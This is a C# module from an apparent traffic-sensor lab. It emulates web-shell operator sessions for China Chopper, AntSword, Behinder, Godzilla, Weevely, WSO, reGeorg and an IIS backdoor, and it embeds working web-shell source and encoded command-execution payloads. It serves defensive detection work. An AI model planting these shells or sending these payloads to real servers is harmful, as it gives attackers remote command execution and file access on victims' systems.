using System.IO.Compression;
using System.Net.Http.Headers;
using System.Security.Cryptography;
using System.Text;

namespace TrafficSensor.Lab;

/// <summary>
/// Re-implementations of the wire behaviour of web-shell families: request shape, encodings and
/// session pattern (upload of the shell, first contact, command loop, file browsing, tunnels). The
/// shells on the lab servers are the project's emulators and run only allow-listed commands.
/// </summary>
public static class Operators
{
    public static readonly string[] Families = ["cmd", "chopper", "antsword", "behinder", "godzilla", "weevely", "wso", "regeorg", "iis-module"];

    private static readonly string[] Commands = ["whoami", "id", "pwd", "uname -a", "ls -la", "cat lab-notes.txt", "hostname", "ps aux", "netstat -an", "ip addr"];

    public static Task Run(string family, LabContext ctx, LabClient client, Random random, string shellName) => family switch
    {
        "cmd" => CmdShell(ctx, client, random, shellName),
        "chopper" => Chopper(ctx, client, random, shellName),
        "antsword" => AntSword(ctx, client, random, shellName),
        "behinder" => Behinder(ctx, client, random, shellName),
        "godzilla" => Godzilla(ctx, client, random, shellName),
        "weevely" => Weevely(ctx, client, random, shellName),
        "wso" => Wso(ctx, client, random, shellName),
        "regeorg" => ReGeorg(ctx, client, random, shellName),
        "iis-module" => IisModule(ctx, client, random),
        _ => throw new ArgumentException("unknown family " + family),
    };

    /// <summary>Where each family's shell is dropped: PHP families on the wiki, JSP ones on Tomcat.</summary>
    public static (string Server, string Path) Location(string family, string shellName) => family switch
    {
        "behinder" or "regeorg" => ("tomcat", $"/examples/jsp/images/{shellName}.jsp"),
        "cmd" => ("wiki", $"/lib/images/{shellName}.php"),
        "iis-module" => ("shop", "/"),
        _ => ("wiki", $"/lib/tpl/dokuwiki/images/{shellName}.php"),
    };

    /// <summary>The source code an attacker uploads; the lab's uploader stores an emulator in its place.</summary>
    private static readonly Dictionary<string, string> ShellSource = new()
    {
        ["cmd"] = "<?php if(isset($_REQUEST['cmd'])){ echo \"<pre>\"; $cmd = ($_REQUEST['cmd']); system($cmd); echo \"</pre>\"; die; } ?>\nUsage: http://target.com/simple-backdoor.php?cmd=cat+/etc/passwd",
        ["chopper"] = "<?php @eval($_POST['caidao']);?>",
        ["antsword"] = "<?php @eval($_POST['ant']);?>",
        ["godzilla"] = "<?php @session_start(); @set_time_limit(0); @error_reporting(0); function encode($D,$K){ for($i=0;$i<strlen($D);$i++) { $c = $K[$i+1&15]; $D[$i] = $D[$i]^$c; } return $D; } $pass='pass'; $payloadName='payload'; $key='3c6e0b8a9c15224a'; if (isset($_POST[$pass])){ $data=encode(base64_decode($_POST[$pass]),$key); if (isset($_SESSION[$payloadName])){ $payload=encode($_SESSION[$payloadName],$key); eval($payload); echo substr(md5($pass.$key),0,16); echo base64_encode(encode(@run($data),$key)); echo substr(md5($pass.$key),16); }else{ if (strpos($data,\"getBasicsInfo\")!==false){ $_SESSION[$payloadName]=encode($data,$key); } } }",
        ["weevely"] = "<?php $k=\"e1c3a9f0\";$kh=\"5b8d2f6a1c4e\";$kf=\"7d9b3e0a2c6f\";$p=\"Xq8Lm2Vt9Rw4Yz1B\"; function x($t,$k){$c=strlen($k);$l=strlen($t);$o=\"\";for($i=0;$i<$l;){for($j=0;($j<$c&&$i<$l);$j++,$i++){$o.=$t[$i]^$k[$j];}}return $o;} if(@preg_match(\"/$kh(.+)$kf/\",@file_get_contents(\"php://input\"),$m)==1){@ob_start();@eval(@gzuncompress(@x(@base64_decode($m[1]),$k)));$o=@ob_get_contents();@ob_end_clean();$r=@base64_encode(@x(@gzcompress($o),$k));print(\"$p$kh$r$kf\");}",
        ["wso"] = "<?php $auth_pass = \"63a9f0ea7bb98050796b649e85481845\"; $color = \"#df5\"; $default_action = 'FilesMan'; @ini_set('error_log',NULL); @ini_set('log_errors',0); /* WSO 2.5 */ ?>",
        ["behinder"] = "<%@page import=\"java.util.*,javax.crypto.*,javax.crypto.spec.*\"%><%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><%if (request.getMethod().equals(\"POST\")){String k=\"e45e329feb5d925b\";session.putValue(\"u\",k);Cipher c=Cipher.getInstance(\"AES\");c.init(2,new SecretKeySpec(k.getBytes(),\"AES\"));new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext);}%>",
        ["regeorg"] = "<%@page import=\"java.nio.ByteBuffer, java.net.InetSocketAddress, java.nio.channels.SocketChannel, java.util.Arrays, java.io.IOException\" %><% String cmd = request.getHeader(\"X-CMD\"); if (cmd != null) { response.setHeader(\"X-STATUS\", \"OK\"); /* reGeorg tunnel.jsp */ } else { out.print(\"Georg says, 'All seems fine'\"); } %>",
    };

    private static async Task Upload(LabContext ctx, LabClient client, Random random, string family, string shellName, string? tag = null)
    {
        var (serverName, path) = Location(family, shellName);
        var server = ctx.Server(serverName);
        var directory = path[..path.LastIndexOf('/')];
        var fileName = path[(path.LastIndexOf('/') + 1)..];
        var form = FormParts.Create($"----WebKitFormBoundary{random.NextInt64():x16}");
        FormParts.Add(form, new StringContent(directory), "dir");
        var file = new ByteArrayContent(Encoding.UTF8.GetBytes(ShellSource[family]));
        file.Headers.ContentType = new MediaTypeHeaderValue(family is "behinder" or "regeorg" ? "application/octet-stream" : "application/x-php");
        FormParts.Add(form, file, "file", fileName);
        var uploader = serverName == "tomcat" ? "/examples/jsp/upload.jsp" : "/lib/plugins/labupload/upload.php";
        await client.SendAsync(server, HttpMethod.Post, uploader, tag ?? family, "upload", form, [("Accept", "text/html,*/*")]);
        await ctx.Think(random, 3);
    }

    private static string[] PickCommands(Random random, int n) => Enumerable.Range(0, n).Select(_ => Commands[random.Next(Commands.Length)]).ToArray();

    /// <summary>The session's commands: the tool's own short session, or as many as the run asks for.</summary>
    private static string[] PickCommands(LabContext ctx, Random random, int n) => PickCommands(random, ctx.SessionRequests > 0 ? ctx.SessionRequests : n);

    // ------------------------------------------------------------------ plain ?cmd= shell

    private static async Task CmdShell(LabContext ctx, LabClient client, Random random, string shellName)
    {
        var (serverName, path) = Location("cmd", shellName);
        var server = ctx.Server(serverName);
        await Upload(ctx, client, random, "cmd", shellName);
        await client.SendAsync(server, HttpMethod.Get, path, "cmd", "first_contact");
        await ctx.Resume(client);
        foreach (var command in PickCommands(ctx, random, 6 + random.Next(6)))
        {
            if (random.Next(3) == 0)
                await client.SendAsync(server, HttpMethod.Post, path, "cmd", "command", new FormUrlEncodedContent([new("cmd", command)]));
            else
                await client.SendAsync(server, HttpMethod.Get, $"{path}?cmd={Uri.EscapeDataString(command).Replace("%20", "+")}", "cmd", "command");
            await ctx.Think(random, 3);
        }
    }

    // ------------------------------------------------------------------ China Chopper

    private static async Task Chopper(LabContext ctx, LabClient client, Random random, string shellName)
    {
        var (serverName, path) = Location("chopper", shellName);
        var server = ctx.Server(serverName);
        await Upload(ctx, client, random, "chopper", shellName);
        const string head = "@ini_set(\"display_errors\",\"0\");@set_time_limit(0);@set_magic_quotes_runtime(0);echo(\"->|\");";
        const string tail = ";echo(\"|<-\");die();";
        async Task Send(string phase, string payload, params (string, string)[] extra)
        {
            var fields = new List<KeyValuePair<string, string>> { new("caidao", "@eval(base64_decode($_POST[z0]));"), new("z0", B64(head + payload + tail)) };
            fields.AddRange(extra.Select(e => new KeyValuePair<string, string>(e.Item1, e.Item2)));
            await client.SendAsync(server, HttpMethod.Post, path, "chopper", phase, new FormUrlEncodedContent(fields));
            await ctx.Think(random, 2);
        }
        // First contact: the "info" call returns the script directory and the drives.
        await Send("first_contact", "$D=dirname($_SERVER[\"SCRIPT_FILENAME\"]);if($D==\"\")$D=dirname($_SERVER[\"PATH_TRANSLATED\"]);$R=\"{$D}\\t\";if(substr($D,0,1)!=\"/\"){foreach(range(\"A\",\"Z\") as $L)if(is_dir(\"{$L}:\"))$R.=\"{$L}:\";}$R.=\"\\t\";$u=(function_exists('posix_getegid'))?@posix_getpwuid(@posix_geteuid()):'';$usr=($u)?$u['name']:@get_current_user();$R.=php_uname();$R.=\"({$usr})\";print $R;");
        await ctx.Resume(client);
        await Send("file_browse", "$D=base64_decode($_POST[\"z1\"]);$F=@opendir($D);if($F==NULL){echo(\"ERROR:// Path Not Found Or No Permission!\");}else{$M=NULL;$L=NULL;while($N=@readdir($F)){$P=$D.\"/\".$N;$T=@date(\"Y-m-d H:i:s\",@filemtime($P));@$E=substr(base_convert(@fileperms($P),10,8),-4);$R=\"\\t\".$T.\"\\t\".@filesize($P).\"\\t\".$E.\"\\n\";if(@is_dir($P))$M.=$N.\"/\".$R;else $L.=$N.$R;}echo $M.$L;@closedir($F);};", ("z1", B64("/var/www/")));
        foreach (var command in PickCommands(ctx, random, 5 + random.Next(5)))
            await Send("command", "$p=base64_decode($_POST[\"z1\"]);$s=base64_decode($_POST[\"z2\"]);$d=dirname($_SERVER[\"SCRIPT_FILENAME\"]);$c=substr($d,0,1)==\"/\"?\"-c \\\"{$s}\\\"\":\"/c \\\"{$s}\\\"\";$r=\"{$p} {$c}\";@system($r.\" 2>&1\",$ret);print ($ret!=0)?\"ret={$ret}\":\"\";",
                ("z1", B64("/bin/sh")), ("z2", B64($"cd \"/var/www/\";{command};echo [S];pwd;echo [E]")));
        await Send("file_download", "$F=get_magic_quotes_gpc()?stripslashes($_POST[\"z1\"]):$_POST[\"z1\"];$fp=@fopen($F,\"r\");if(@fgetc($fp)){@fclose($fp);@readfile($F);}else{echo(\"ERROR:// Can Not Read\");};", ("z1", "lab-notes.txt"));
    }

    // ------------------------------------------------------------------ AntSword

    private static async Task AntSword(LabContext ctx, LabClient client, Random random, string shellName)
    {
        var (serverName, path) = Location("antsword", shellName);
        var server = ctx.Server(serverName);
        var encoder = new[] { "base64", "rot13", "hex" }[random.Next(3)];
        await Upload(ctx, client, random, "antsword", shellName, "antsword/" + encoder);
        var agents = UserAgents.Browsers;
        async Task Send(string phase, string code, Dictionary<string, string>? args = null)
        {
            var start = Hex(random, 4 + random.Next(4));
            var end = Hex(random, 4 + random.Next(4));
            var body = "@ini_set(\"display_errors\", \"0\");@set_time_limit(0);$opdir=@ini_get(\"open_basedir\");if($opdir) {$ocwd=dirname($_SERVER[\"SCRIPT_FILENAME\"]);$oparr=preg_split(base64_decode(\"Lzt8Oi8=\"),$opdir);@array_push($oparr,$ocwd,sys_get_temp_dir());foreach($oparr as $item) {if(!@is_writable($item)){continue;};$tmdir=$item.\"/.\" . substr(md5(uniqid()),0,6);if(!file_exists($tmdir)){@mkdir($tmdir);}};}"
                       + "function asenc($out){return $out;};function asoutput(){$output=ob_get_contents();ob_end_clean();echo \"" + start + "\";echo @asenc($output);echo \"" + end + "\";}ob_start();try{" + code + "}catch(Exception $e){echo \"ERROR://\".$e->getMessage();};asoutput();die();";
            var dataParam = "_0x" + Hex(random, 4);
            var (wrapper, encoded) = encoder switch
            {
                "rot13" => ($"@eval(@str_rot13($_POST['{dataParam}']));", Rot13(body)),
                "hex" => ($"@eval(@hex2bin($_POST['{dataParam}']));", Convert.ToHexStringLower(Encoding.UTF8.GetBytes(body))),
                _ => ($"@eval(@base64_decode($_POST['{dataParam}']));", B64(body)),
            };
            var fields = new List<KeyValuePair<string, string>> { new("ant", wrapper), new(dataParam, encoded) };
            foreach (var (name, value) in args ?? new()) fields.Add(new(name, Hex(random, 1) + B64(value)));
            await client.SendAsync(server, HttpMethod.Post, path, "antsword/" + encoder, phase, new FormUrlEncodedContent(fields),
                [("Accept", "*/*"), ("Accept-Language", "zh-CN,zh;q=0.9")]);
            await ctx.Think(random, 2);
        }
        _ = agents;
        await Send("first_contact", "$D=dirname($_SERVER[\"SCRIPT_FILENAME\"]);if($D==\"\")$D=dirname($_SERVER[\"PATH_TRANSLATED\"]);$R=\"{$D}\t\";if(substr($D,0,1)!=\"/\"){foreach(range(\"C\",\"Z\")as $L)if(is_dir(\"{$L}:\"))$R.=\"{$L}:\";}else{$R.=\"/\";}$R.=\"\t\";$u=(function_exists(\"posix_getegid\"))?@posix_getpwuid(@posix_geteuid()):\"\";$s=($u)?$u[\"name\"]:@get_current_user();$R.=php_uname();$R.=\"\t{$s}\";echo $R;;");
        await ctx.Resume(client);
        await Send("file_browse", "$D=base64_decode(substr($_POST[\"k8\"],2));$F=@opendir($D);if($F==NULL){echo(\"ERROR:// Path Not Found Or No Permission!\");}else{$M=NULL;$L=NULL;while($N=@readdir($F)){$P=$D.$N;$T=@date(\"Y-m-d H:i:s\",@filemtime($P));@$E=substr(base_convert(@fileperms($P),10,8),-4);$R=\"\t\".$T.\"\t\".@filesize($P).\"\t\".$E.\"\n\";if(@is_dir($P))$M.=$N.\"/\".$R;else $L.=$N.$R;}echo $M.$L;@closedir($F);};",
            new() { ["k8"] = "/var/www/" });
        foreach (var command in PickCommands(ctx, random, 5 + random.Next(5)))
            await Send("command", "$p=base64_decode(substr($_POST[\"x1\"],2));$s=base64_decode(substr($_POST[\"x2\"],2));$envstr=@base64_decode(substr($_POST[\"x3\"],2));$d=dirname($_SERVER[\"SCRIPT_FILENAME\"]);$c=substr($d,0,1)==\"/\"?\"-c \\\"{$s}\\\"\":\"/c \\\"{$s}\\\"\";if(substr($d,0,1)==\"/\"){@putenv(\"PATH=\".getenv(\"PATH\").\":/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\");}$r=\"{$p} {$c}\";$ret=@system($r.\" 2>&1\");",
                new() { ["x1"] = "/bin/sh", ["x2"] = $"cd \"/var/www\";{command};echo {Hex(random, 3)};pwd;echo {Hex(random, 3)}", ["x3"] = "" });
    }

    // ------------------------------------------------------------------ Behinder v3 (JSP: raw AES body)

    private static readonly byte[] BehinderKey = Encoding.ASCII.GetBytes("e45e329feb5d925b"); // md5("rebeyond")[0:16]

    private static async Task Behinder(LabContext ctx, LabClient client, Random random, string shellName)
    {
        var (serverName, path) = Location("behinder", shellName);
        var server = ctx.Server(serverName);
        await Upload(ctx, client, random, "behinder", shellName);
        (string, string)[] headers = [("Accept", "application/json, text/javascript, */*; q=0.01"), ("Accept-Language", "zh-CN,zh;q=0.8,en-US;q=0.5,en;q=0.3"), ("Referer", $"{server.Origin}{path[..path.LastIndexOf('/')]}/")];
        async Task Send(string phase, string className, Dictionary<string, string> fields)
        {
            var payload = AesEcb(FakeClass(random, className, fields), encrypt: true);
            var content = new ByteArrayContent(payload);
            content.Headers.ContentType = new MediaTypeHeaderValue("application/octet-stream");
            await client.SendAsync(server, HttpMethod.Post, path, "behinder", phase, content, headers);
            await ctx.Think(random, 2);
        }
        await Send("first_contact", "net/rebeyond/behinder/payload/java/Echo", new() { ["content"] = Hex(random, 20) });
        await Send("first_contact", "net/rebeyond/behinder/payload/java/BasicInfo", new() { ["whatever"] = Hex(random, 8) });
        await ctx.Resume(client);
        await Send("file_browse", "net/rebeyond/behinder/payload/java/FileOperation", new() { ["mode"] = "list", ["path"] = "/var/lib/tomcat10/" });
        foreach (var command in PickCommands(ctx, random, 5 + random.Next(5)))
            await Send("command", "net/rebeyond/behinder/payload/java/Cmd", new() { ["cmd"] = command, ["path"] = "/" });
    }

    /// <summary>A blob shaped like the Java class Behinder sends (magic, version, constant-pool strings) carrying the call's fields.</summary>
    private static byte[] FakeClass(Random random, string className, Dictionary<string, string> fields)
    {
        var ms = new MemoryStream();
        ms.Write([0xCA, 0xFE, 0xBA, 0xBE, 0x00, 0x00, 0x00, 0x32]);
        void Utf8(string s) { var b = Encoding.UTF8.GetBytes(s); ms.WriteByte(1); ms.WriteByte((byte)(b.Length >> 8)); ms.WriteByte((byte)b.Length); ms.Write(b); }
        Utf8(className);
        Utf8("java/lang/Object");
        Utf8("equals");
        foreach (var (k, v) in fields) { Utf8(k); Utf8(v); }
        var padding = new byte[600 + random.Next(1500)];
        random.NextBytes(padding);
        ms.Write(padding);
        return ms.ToArray();
    }

    // ------------------------------------------------------------------ Godzilla (PHP_XOR_BASE64)

    private static async Task Godzilla(LabContext ctx, LabClient client, Random random, string shellName)
    {
        var (serverName, path) = Location("godzilla", shellName);
        var server = ctx.Server(serverName);
        await Upload(ctx, client, random, "godzilla", shellName);
        var key = Encoding.ASCII.GetBytes("3c6e0b8a9c15224a"); // md5("key")[0:16]
        (string, string)[] headers = [("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"), ("Accept-Language", "zh-CN,zh;q=0.8,zh-TW;q=0.7,zh-HK;q=0.5,en-US;q=0.3,en;q=0.2")];
        async Task Send(string phase, byte[] data)
        {
            var body = "pass=" + Uri.EscapeDataString(Convert.ToBase64String(Xor(data, key, offsetByOne: true)));
            await client.SendAsync(server, HttpMethod.Post, path, "godzilla", phase, Raw(Encoding.ASCII.GetBytes(body), "application/x-www-form-urlencoded"), headers);
            await ctx.Think(random, 2);
        }
        // First request: the whole payload (a large PHP class body) that the shell keeps in the session.
        var payload = new StringBuilder("$parameters=array();$_SES=array();function run($pms){global $ERRMSG;reDefSystemFunc();$_SES=&getSession();@session_start();$sessioId=md5(session_id());");
        while (payload.Length < 14_000) payload.Append($"function fn{random.Next():x}($a){{return base64_encode(gzencode($a.\"{Hex(random, 16)}\"));}}");
        payload.Append("function getBasicsInfo(){$ReturnStr=array();return $ReturnStr;}");
        await Send("first_contact", Encoding.ASCII.GetBytes(payload.ToString()));
        await Send("first_contact", Gzip(GodzillaParams(new() { ["methodName"] = "test" })));
        await Send("first_contact", Gzip(GodzillaParams(new() { ["methodName"] = "getBasicsInfo" })));
        await ctx.Resume(client);
        await Send("file_browse", Gzip(GodzillaParams(new() { ["methodName"] = "getFile", ["dirName"] = "/var/www/" })));
        foreach (var command in PickCommands(ctx, random, 5 + random.Next(5)))
            await Send("command", Gzip(GodzillaParams(new() { ["methodName"] = "execCommand", ["cmdLine"] = $"sh -c \"cd \"/var/www/\";{command}\" 2>&1" })));
    }

    internal static byte[] GodzillaParams(Dictionary<string, string> parameters)
    {
        var ms = new MemoryStream();
        foreach (var (name, value) in parameters)
        {
            var v = Encoding.UTF8.GetBytes(value);
            ms.Write(Encoding.ASCII.GetBytes(name));
            ms.WriteByte(2);
            ms.Write(BitConverter.GetBytes(v.Length));
            ms.Write(v);
        }
        return ms.ToArray();
    }

    // ------------------------------------------------------------------ Weevely 3 (obfuscated POST)

    private static async Task Weevely(LabContext ctx, LabClient client, Random random, string shellName)
    {
        var (serverName, path) = Location("weevely", shellName);
        var server = ctx.Server(serverName);
        await Upload(ctx, client, random, "weevely", shellName);
        var key = Encoding.ASCII.GetBytes("e1c3a9f0");
        const string kh = "5b8d2f6a1c4e", kf = "7d9b3e0a2c6f";
        async Task Send(string phase, string php)
        {
            var data = Convert.ToBase64String(Xor(Zlib(Encoding.UTF8.GetBytes(php)), key, offsetByOne: false));
            // The payload hides between the two markers, wrapped in random printable junk.
            var body = RandomPrintable(random, 10 + random.Next(60)) + kh + data + kf + RandomPrintable(random, 10 + random.Next(60));
            await client.SendAsync(server, HttpMethod.Post, path, "weevely", phase, Raw(Encoding.ASCII.GetBytes(body), "application/x-www-form-urlencoded"),
                [("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"), ("Referer", $"{server.Origin}/doku.php?id={Hex(random, 6)}")]);
            await ctx.Think(random, 2);
        }
        await Send("first_contact", "echo(1);");
        await Send("first_contact", "print(@getcwd());print(\"\\n\");print(@php_uname());");
        await ctx.Resume(client);
        await Send("file_browse", "$p=\"/var/www/\";if(@is_dir($p)){$d=@opendir($p);$a=array();if($d){while(($f=@readdir($d))){$a[]=$f;};sort($a);print(join(PHP_EOL,$a));}}");
        foreach (var command in PickCommands(ctx, random, 5 + random.Next(5)))
            await Send("command", $"@system('{command} 2>&1');");
    }

    // ------------------------------------------------------------------ WSO / b374k-style file manager

    private static async Task Wso(LabContext ctx, LabClient client, Random random, string shellName)
    {
        var (serverName, path) = Location("wso", shellName);
        var server = ctx.Server(serverName);
        await Upload(ctx, client, random, "wso", shellName);
        (string, string)[] headers = [("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"), ("Referer", $"{server.Origin}{path}")];
        await client.SendAsync(server, HttpMethod.Get, path, "wso", "first_contact", headers: headers);
        await client.SendAsync(server, HttpMethod.Post, path, "wso", "login", new FormUrlEncodedContent([new("pass", "root")]), headers);
        await ctx.Resume(client);
        async Task Action(string phase, string a, string c, string p1 = "", string p2 = "", string p3 = "")
        {
            await client.SendAsync(server, HttpMethod.Post, path, "wso", phase,
                new FormUrlEncodedContent([new("a", a), new("c", c), new("p1", p1), new("p2", p2), new("p3", p3), new("charset", "UTF-8")]), headers);
            await ctx.Think(random, 3);
        }
        await Action("file_browse", "FilesMan", "/var/www/");
        await Action("file_browse", "FilesMan", "/etc/");
        await Action("file_download", "FilesTools", "/var/www/", "lab-notes.txt", "view");
        await Action("command", "SecInfo", "/var/www/");
        foreach (var command in PickCommands(ctx, random, 4 + random.Next(4)))
            await Action("command", "Console", "/var/www/", command);
        await Action("file_upload", "FilesMan", "/var/www/", "mkfile", "readme.txt");
    }

    // ------------------------------------------------------------------ reGeorg tunnel (JSP)

    private static async Task ReGeorg(LabContext ctx, LabClient client, Random random, string shellName)
    {
        var (serverName, path) = Location("regeorg", shellName);
        var server = ctx.Server(serverName);
        await Upload(ctx, client, random, "regeorg", shellName);
        await client.SendAsync(server, HttpMethod.Get, path, "regeorg", "first_contact", headers: [("Accept", "*/*")]);
        await ctx.Resume(client);
        var sessions = 2 + random.Next(2);
        for (var s = 0; s < sessions && DateTime.UtcNow < ctx.Deadline.AddSeconds(30); s++)
        {
            var target = $"10.10.{random.Next(1, 5)}.{random.Next(2, 250)}";
            var port = new[] { 22, 3389, 445, 3306 }[random.Next(4)];
            await client.SendAsync(server, HttpMethod.Post, $"{path}?cmd=connect&target={target}&port={port}", "regeorg", "tunnel_connect",
                new ByteArrayContent([]), [("Accept", "*/*"), ("X-CMD", "CONNECT"), ("X-TARGET", target), ("X-PORT", port.ToString())]);
            // The SOCKS side polls the tunnel at a steady rate and forwards client bytes.
            var polls = 15 + random.Next(20);
            for (var i = 0; i < polls; i++)
            {
                if (i % 5 == 2)
                {
                    var data = new byte[32 + random.Next(400)];
                    random.NextBytes(data);
                    var content = new ByteArrayContent(data);
                    content.Headers.ContentType = new MediaTypeHeaderValue("application/octet-stream");
                    await client.SendAsync(server, HttpMethod.Post, $"{path}?cmd=forward", "regeorg", "tunnel_forward", content, [("Accept", "*/*"), ("X-CMD", "FORWARD")]);
                }
                await client.SendAsync(server, HttpMethod.Post, $"{path}?cmd=read", "regeorg", "tunnel_poll", new ByteArrayContent([]), [("Accept", "*/*"), ("X-CMD", "READ")]);
                await Task.Delay(TimeSpan.FromMilliseconds(250 / ctx.Speed + random.Next(20)));
            }
            await client.SendAsync(server, HttpMethod.Post, $"{path}?cmd=disconnect", "regeorg", "tunnel_disconnect", new ByteArrayContent([]), [("Accept", "*/*"), ("X-CMD", "DISCONNECT")]);
        }
    }

    // ------------------------------------------------------------------ IIS-module-style backdoor (RGDoor-like)

    private static async Task IisModule(LabContext ctx, LabClient client, Random random)
    {
        var server = ctx.Shop;
        string[] pages = ["/", "/products", "/products/7", "/login"];
        (string, string)[] browser = [("Accept", "text/html,application/xhtml+xml,*/*;q=0.8"), ("Accept-Language", "en-US,en;q=0.5")];
        // The module is installed on the server already: the operator only talks to it, hidden in page requests.
        await client.SendAsync(server, HttpMethod.Get, "/", "iis-module", "first_contact", headers: browser.Append(("Cookie", "RGSESSION=" + Uri.EscapeDataString(B64("whoami")))), sendCookies: false);
        await ctx.Resume(client);
        foreach (var command in PickCommands(ctx, random, 6 + random.Next(6)))
        {
            await client.SendAsync(server, HttpMethod.Get, pages[random.Next(pages.Length)], "iis-module", "command",
                headers: browser.Append(("Cookie", "RGSESSION=" + Uri.EscapeDataString(B64(command)))), sendCookies: false);
            await ctx.Think(random, 4);
        }
    }

    // ------------------------------------------------------------------ helpers

    /// <summary>A body with exactly this Content-Type (StringContent would add "; charset=", which the tools do not send).</summary>
    internal static ByteArrayContent Raw(byte[] body, string contentType)
    {
        var content = new ByteArrayContent(body);
        content.Headers.TryAddWithoutValidation("Content-Type", contentType);
        return content;
    }

    internal static string B64(string s) => Convert.ToBase64String(Encoding.UTF8.GetBytes(s));
    internal static string Hex(Random random, int bytes) { var b = new byte[bytes]; random.NextBytes(b); return Convert.ToHexStringLower(b); }

    internal static string Rot13(string s) => new(s.Select(c => c switch
    {
        >= 'a' and <= 'z' => (char)('a' + (c - 'a' + 13) % 26),
        >= 'A' and <= 'Z' => (char)('A' + (c - 'A' + 13) % 26),
        _ => c,
    }).ToArray());

    internal static string RandomPrintable(Random random, int n)
    {
        const string chars = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
        return new string(Enumerable.Range(0, n).Select(_ => chars[random.Next(chars.Length)]).ToArray());
    }

    /// <summary>XOR with a repeating key; Godzilla indexes the key at i+1.</summary>
    public static byte[] Xor(byte[] data, byte[] key, bool offsetByOne)
    {
        var result = new byte[data.Length];
        for (var i = 0; i < data.Length; i++) result[i] = (byte)(data[i] ^ key[(offsetByOne ? i + 1 : i) % key.Length]);
        return result;
    }

    public static byte[] AesEcb(byte[] data, bool encrypt)
    {
        using var aes = Aes.Create();
        aes.Key = BehinderKey;
        return encrypt ? aes.EncryptEcb(data, PaddingMode.PKCS7) : aes.DecryptEcb(data, PaddingMode.PKCS7);
    }

    internal static byte[] Gzip(byte[] data)
    {
        var ms = new MemoryStream();
        using (var z = new GZipStream(ms, CompressionLevel.Optimal)) z.Write(data);
        return ms.ToArray();
    }

    private static byte[] Zlib(byte[] data)
    {
        var ms = new MemoryStream();
        using (var z = new ZLibStream(ms, CompressionLevel.Optimal)) z.Write(data);
        return ms.ToArray();
    }
}
